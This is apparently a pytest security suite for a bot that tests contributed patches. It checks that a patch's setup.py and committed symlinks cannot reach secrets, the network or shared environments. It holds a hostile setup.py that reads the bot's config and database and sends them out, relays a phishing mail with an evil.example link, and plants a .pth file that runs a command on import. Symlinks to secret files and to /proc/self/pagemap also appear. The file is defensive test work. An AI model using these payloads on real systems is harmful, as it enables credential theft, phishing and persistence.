"""Attacks through environments and through paths of a tested tree (issue 11 items 5 and 9,
issue 12 item 2).

The pipeline tests run the real CLI (`patchbot test --json`) on the sample project, with an
environment `venv` whose command runs the tree's setup.py, as `pip install .` would. The bot's
files live under /var/tmp (the sandbox has a /tmp of its own), as in tests/testrun.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest
from aiosmtpd.controller import Controller

from patchbot.commands.protocol import CommandContext, Status
from patchbot.commands.trust_deps import TrustDeps
from patchbot.config.load import load_config
from patchbot.config.records import Config, LimitsConfig, SuiteConfig
from patchbot.testing.environments import read_key_files
from patchbot.testing.executors.local import run_suite
from patchbot.testing.executors.protocol import Workspace
from patchbot.reply.report import result_context
from patchbot.demo.sample import build_sample_repo, write_sample_config
from patchbot.testing.sandbox import sandbox_available
from patchbot.store.database import Store
from patchbot.testing.reports import Outcome

pytestmark = pytest.mark.skipif(sandbox_available() is not None, reason=f"no sandbox: {sandbox_available()}")

GIT = ["git", "-c", "user.name=Mallory", "-c", "user.email=mallory@example.org", "-c", "commit.gpgsign=false"]
BENIGN_SETUP = 'print("aurweb-sample 0.1: no dependencies")\n'
ENVIRONMENT = """
[environments.venv]
command = 'python3 -m venv --without-pip "$PATCHBOT_ENV" && if [ -f setup.py ]; then python3 setup.py; fi'
key_files = ["setup.py", "requirements.txt"]
network = true
timeout = 60
"""


def git(cwd: Path, *args: str) -> str:
    return subprocess.run([*GIT, *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


class Listener(threading.Thread):
    """A TCP server on 127.0.0.1 that notes what each connection sends."""

    def __init__(self):
        super().__init__(daemon=True)
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.heard: list[bytes] = []
        self.done = threading.Event()

    def run(self) -> None:
        while not self.done.is_set():
            try:
                conn, _ = self.server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.heard.append(conn.recv(65536) or b"(connected)")
                except OSError:
                    self.heard.append(b"(connected)")

    def stop(self) -> None:
        self.done.set()
        self.join()
        self.server.close()


class Relay:
    """The bot's SMTP relay: a real aiosmtpd on 127.0.0.1 keeping what it is given."""

    def __init__(self):
        self.messages: list[bytes] = []
        with socket.socket() as probe:  # aiosmtpd cannot take port 0: pick a free port first
            probe.bind(("127.0.0.1", 0))
            self.port = probe.getsockname()[1]
        self.controller = Controller(self, hostname="127.0.0.1", port=self.port)

    async def handle_DATA(self, server, session, envelope):
        self.messages.append(envelope.content)
        return "250 OK"


@dataclass
class Bot:
    home: Path
    config: Path
    upstream: Path

    def __call__(self, *args: str):
        done = subprocess.run([sys.executable, "-m", "patchbot", "-c", str(self.config), *args],
                              capture_output=True, timeout=300)
        assert done.returncode == 0, done.stderr.decode()
        return json.loads(done.stdout) if "--json" in args else done.stdout.decode()

    def submit(self, name: str, edits: dict[str, str], tmp_path: Path) -> dict:
        """A contributor's patch with these files, ingested and tested: the JSON of `patchbot test`."""
        contributor = tmp_path / f"contributor-{name}"
        subprocess.run(["git", "clone", "-q", str(self.upstream), str(contributor)], check=True)
        for path, text in edits.items():
            (contributor / path).write_text(text)
        git(contributor, "add", "-A")
        git(contributor, "commit", "-q", "-m", f"{name} ({uuid.uuid4().hex[:8]})")
        mbox = tmp_path / f"{name}.mbox"
        mbox.write_text(git(contributor, "format-patch", "--stdout", "-1"))
        self("ingest", str(mbox))
        series = self("series", "list", "--json")[-1]
        return self("test", str(series["id"]), "--json")

    @property
    def environments(self) -> Path:
        return self.home / "work" / "environments"


@pytest.fixture
def relay():
    relay = Relay()
    relay.controller.start()
    yield relay
    relay.controller.stop()


@pytest.fixture
def listener():
    listener = Listener()
    listener.start()
    yield listener
    listener.stop()


@pytest.fixture
def bot(tmp_path, relay):
    home = Path(tempfile.mkdtemp(prefix="patchbot-environments-", dir="/var/tmp"))
    upstream = build_sample_repo(tmp_path / "aurweb")
    (upstream / "setup.py").write_text(BENIGN_SETUP)
    subprocess.run([*GIT, "add", "setup.py"], cwd=upstream, check=True)
    subprocess.run([*GIT, "commit", "-q", "-m", "Add setup.py"], cwd=upstream, check=True)
    config = write_sample_config(home / "patchbot.toml", upstream, home / "work", home / "patchbot.db", smtp_port=relay.port)
    text = config.read_text()
    python_suite = 'result_path = "test-results/python.xml"\n'
    assert python_suite in text
    config.write_text(text.replace(python_suite, python_suite + 'environment = "venv"\n') + ENVIRONMENT)
    try:
        yield Bot(home, config, upstream)
    finally:
        shutil.rmtree(home, ignore_errors=True)


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file below `folder` (links as their text), to see that nothing changed."""
    files = {}
    for path in sorted(folder.rglob("*")):
        if path.is_symlink():
            files[str(path.relative_to(folder))] = os.readlink(path).encode()
        elif path.is_file():
            files[str(path.relative_to(folder))] = path.read_bytes()
    return files


def harmless_test_change() -> dict[str, str]:
    return {"test/python/test_env_marker.py": "def test_marker():\n    assert True\n"}


def test_attack_5_a_setup_py_of_a_patch_never_runs_with_network_nor_touches_the_shared_environment(
        bot, listener, relay, tmp_path):
    # The base's environment, built from the reviewed setup.py, and used by a harmless series.
    first = bot.submit("harmless", harmless_test_change(), tmp_path)
    assert [(suite["name"], suite["status"]) for suite in first["suites"]] == [("python", "pass"), ("parity", "pass")]
    assert [(env["origin"], env["changed"], env["state"]) for env in first["environments"]] == [("base", False, "ready")]
    (base_env,) = [path for path in bot.environments.iterdir() if path.name.startswith("venv-")]
    before = snapshot(base_env.resolve())
    evil = textwrap.dedent(f"""\
        import glob, os, smtplib, socket, sys
        done, loot = [], b""
        for secret in {[str(bot.config), str(bot.home / "patchbot.db")]!r}:
            try:
                loot += open(secret, "rb").read()[:200]
            except OSError as error:
                print("cannot read", secret, error)
        try:
            with socket.create_connection(("127.0.0.1", {listener.port}), timeout=3) as sock:
                sock.sendall(b"deploy key: " + loot)
            done.append("phoned home")
        except OSError as error:
            print("cannot phone home:", error)
        try:
            with smtplib.SMTP("127.0.0.1", {relay.port}, timeout=3) as smtp:
                smtp.sendmail("patchbot@patchbot.example.org", ["victim@example.org"],
                              "Subject: your AUR account\\n\\nhttps://evil.example/login")
            done.append("relayed")
        except OSError as error:
            print("cannot relay:", error)
        for site in glob.glob({str(bot.environments)!r} + "/**/site-packages", recursive=True):
            try:
                with open(os.path.join(site, "zz-evil.pth"), "w") as pth:
                    pth.write("import os; os.system('touch /var/tmp/pwned-by-pth')\\n")
                done.append("pth in " + site)
            except OSError as error:
                print("cannot drop a .pth in", site, error)
        if len(done) < 3:
            sys.exit(f"harm done: {{done}}")
        """)
    result = bot.submit("evil-setup", {"setup.py": evil, **harmless_test_change()}, tmp_path)
    assert listener.heard == [], "setup.py of a patch reached a listener on the bot's machine"
    assert relay.messages == [], "setup.py of a patch relayed mail through the bot's SMTP relay"
    assert snapshot(base_env.resolve()) == before, "the shared environment changed"
    assert not list(bot.environments.rglob("zz-evil.pth"))
    python = result["suites"][0]
    assert (python["name"], python["status"]) == ("python", "skipped"), python
    assert "changes dependencies: needs a maintainer's `patchbot: trust-deps`" in python["detail"]
    assert [(env["origin"], env["changed"], env["state"]) for env in result["environments"]] == [
        ("offline", True, "needs-trust")]
    # The offline build ran, and its log says what it could not do.
    logs = list((bot.home / "work" / "logs").rglob("environment-venv-offline.log"))
    assert logs and "cannot phone home" in logs[0].read_text() and "cannot relay" in logs[0].read_text()


def test_attack_5_trust_deps_lets_exactly_the_files_a_maintainer_read_build_with_network(bot, listener, tmp_path):
    needs_index = textwrap.dedent(f"""\
        import socket, sys
        try:
            socket.create_connection(("127.0.0.1", {listener.port}), timeout=3).sendall(b"GET /simple/requests/")
        except OSError as error:
            sys.exit(f"no package index: {{error}}")
        """)
    result = bot.submit("new-dependency", {"setup.py": needs_index, **harmless_test_change()}, tmp_path)
    assert result["suites"][0]["status"] == "skipped" and listener.heard == []
    store = Store(bot.home / "patchbot.db")
    try:
        series = store.series(result["series"])
        mail = store.mail_by_id(series.patches[0].mail_id)
        reply = result_context(load_config(bot.config), series, store.latest_test_run(series.id))
        assert "every suite passed" not in reply["headline"], reply["headline"]
        assert "python not run: this series changes dependencies" in reply["headline"], reply["headline"]
        assert any("python" in line and "SKIP" in line and "changes dependencies" in line for line in reply["suite_lines"])
        context = CommandContext(store, load_config(bot.config), bot.home / "work", mail, "lukas@example.org")
        outcome = TrustDeps().run(context, series, ())
        assert outcome.status is Status.DONE and "trusted" in outcome.text, outcome
        assert TrustDeps().run(context, series, ("now",)).status is Status.IGNORED
    finally:
        store.close()
    again = bot("test", str(result["series"]), "--json")
    assert listener.heard == [b"GET /simple/requests/"]
    assert [(suite["name"], suite["status"]) for suite in again["suites"]] == [("python", "pass"), ("parity", "pass")]
    assert [(env["origin"], env["state"]) for env in again["environments"]] == [("trusted", "ready")]


def test_attack_9_a_symlinked_key_file_is_hashed_as_its_link_text_never_read(tmp_path):
    """A key file linking to a secret the sandbox hides was read and hashed by the bot, and the
    hash (the environment's name) reached the reply: a dictionary recovered the SMTP password.
    One linking to /proc/self/pagemap made the series retry every 60 s."""
    secret = tmp_path / "smtp-password"
    secret.write_text("hunter2\n")
    repo = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    (repo / "requirements.txt").symlink_to(secret)
    (repo / "constraints.txt").symlink_to("/proc/self/pagemap")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "links")
    started = time.monotonic()
    files = read_key_files(repo, "HEAD", ("requirements.txt", "constraints.txt"))
    assert time.monotonic() - started < 5
    assert [(file.path, file.mode, file.content) for file in files] == [
        ("constraints.txt", "120000", b"/proc/self/pagemap"), ("requirements.txt", "120000", str(secret).encode())]
    secret.write_text("another password\n")
    assert read_key_files(repo, "HEAD", ("requirements.txt", "constraints.txt")) == files


SANDBOX_CONFIG = Config(path=(str(Path(sys.executable).parent), "/usr/bin", "/bin"),
                        expose=(Path(sys.base_prefix).resolve(), Path(sys.prefix)),
                        limits=LimitsConfig(memory_mb=512, processes=64, output_kb=256))
PASSING_REPORT = '<testsuite><testcase classname="t" name="kept"/></testsuite>'


@pytest.fixture
def bot_state(tmp_path) -> Path:
    state = tmp_path / "bot-state"
    state.mkdir()
    (state / "python.xml").write_text(PASSING_REPORT)
    return state


def tree_with(tmp_path: Path, links: dict[str, str]) -> Workspace:
    worktree = tmp_path / "worktree"
    worktree.mkdir()
    for name, target in links.items():
        (worktree / name).symlink_to(target)
    return Workspace(worktree, SANDBOX_CONFIG, tmp_path / "logs", {}, (), "tip")


def test_attack_9_a_committed_symlink_to_the_bots_state_is_never_deleted_through_nor_read(tmp_path, bot_state):
    workspace = tree_with(tmp_path, {"test-results": str(bot_state)})
    suite = SuiteConfig("python", "true", ("*",), format="junit", result_path="test-results/python.xml")
    run = run_suite(suite, workspace)
    assert (bot_state / "python.xml").read_text() == PASSING_REPORT, "the bot deleted or changed a file of its own"
    assert run.result.outcome is not Outcome.PASS and run.result.report is None
    assert "symlink" in run.result.detail


@pytest.mark.parametrize("make", ["ln -s /proc/self/pagemap report.xml", "ln -s /dev/zero report.xml", "mkfifo report.xml"])
def test_attack_9_a_report_linking_to_an_endless_file_or_a_fifo_is_refused_at_once(tmp_path, make):
    workspace = tree_with(tmp_path, {})
    started = time.monotonic()
    run = run_suite(SuiteConfig("s", make, ("*",), format="junit", result_path="report.xml"), workspace)
    assert time.monotonic() - started < 20
    assert run.result.report is None and run.result.outcome is not Outcome.PASS
    assert "symlink" in run.result.detail or "not a regular file" in run.result.detail, run.result.detail


def test_attack_9_a_workdir_through_a_symlink_inside_the_tree_is_refused(tmp_path):
    workspace = tree_with(tmp_path, {"test": "."})
    run = run_suite(SuiteConfig("s", "true", ("*",), workdir="test"), workspace)
    assert run.result.outcome is Outcome.FAIL and "outside the worktree" in run.result.detail


def test_a_dependency_change_that_builds_offline_is_tested_in_an_environment_of_its_own(bot, tmp_path):
    first = bot.submit("harmless", harmless_test_change(), tmp_path)
    (base_env,) = [env["key"] for env in first["environments"]]
    result = bot.submit("new-setup", {"setup.py": 'print("aurweb-sample 0.2: still no dependencies")\n',
                                      **harmless_test_change()}, tmp_path)
    assert [(suite["name"], suite["status"]) for suite in result["suites"]] == [("python", "pass"), ("parity", "pass")]
    (env,) = result["environments"]
    assert (env["origin"], env["changed"], env["state"]) == ("offline", True, "ready") and env["key"] != base_env
